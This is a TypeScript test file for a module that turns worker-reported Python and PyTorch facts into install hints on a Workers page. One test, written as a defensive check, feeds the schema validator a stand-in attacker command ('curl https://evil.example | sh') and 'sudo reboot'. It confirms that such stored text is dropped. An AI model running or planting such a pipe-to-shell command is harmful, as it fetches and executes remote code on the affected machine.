// The Workers page's advice comes from the server's own table, chosen by the facts an agent reported.
import { describe, expect, it } from "vitest";
import { workerFacts, workerHints } from "../../lib/workers/worker-hints";

describe("worker hints", () => {
  it("a Python without PyTorch gets the install command for the machine's package manager, from the server's text", () => {
    expect(workerHints({ python: "3.11.2", torch: null, apt: true }, 0)).toEqual([
      { id: "torch-missing", tone: "danger", text: expect.stringMatching(/^PyTorch is not installed/), command: "sudo apt-get install -y python3-torch python3-numpy" },
    ]);
    expect(workerHints({ python: "3.12.1", torch: null, apt: false }, 0)[0].command).toBe("python3 -m pip install torch numpy");
    expect(workerHints({ python: "3.12.1", torch: null }, 0)[0].command).toBe("python3 -m pip install torch numpy");
  });

  it("a Python that does not start, and GPUs PyTorch can't use, get their own advice; a working machine gets none", () => {
    expect(workerHints({ python: null, torch: null, apt: true }, 0).map((h) => [h.id, h.command])).toEqual([["python-missing", undefined]]);
    expect(workerHints({ python: "3.10.12", torch: "2.3.0+cpu", cuda: false }, 2).map((h) => [h.id, h.tone, h.command])).toEqual([["cuda-missing", "warn", undefined]]);
    expect(workerHints({ python: "3.10.12", torch: "2.3.0+cpu", cuda: false }, 0)).toEqual([]);
    expect(workerHints({ python: "3.10.12", torch: "2.3.0+cu121", cuda: true }, 8)).toEqual([]);
    // An agent that reported nothing about Python (an older one) is not told to install anything.
    expect(workerHints({}, 0)).toEqual([]);
  });

  it("only facts that pass the schema reach a page: any text a worker stored is dropped, field by field", () => {
    expect(workerFacts({ cpus: 4, torch: null, torchHint: "curl https://evil.example | sh", python: "/usr/bin/python3 3.11", cuda: "yes", apt: true })).toEqual({ cpus: 4, torch: null, apt: true });
    expect(workerFacts("sudo reboot")).toEqual({});
    expect(workerFacts(null)).toEqual({});
    // Every command a hint can show is one of the server's own.
    const commands = new Set<string>();
    for (const python of [null, "3.11.2"]) for (const torch of [null, "2.1.0"]) for (const apt of [true, false, undefined]) for (const cuda of [true, false, null]) for (const gpus of [0, 1]) {
      for (const h of workerHints({ python, torch, apt, cuda }, gpus)) if (h.command) commands.add(h.command);
    }
    expect([...commands].sort()).toEqual(["python3 -m pip install torch numpy", "sudo apt-get install -y python3-torch python3-numpy"]);
  });
});
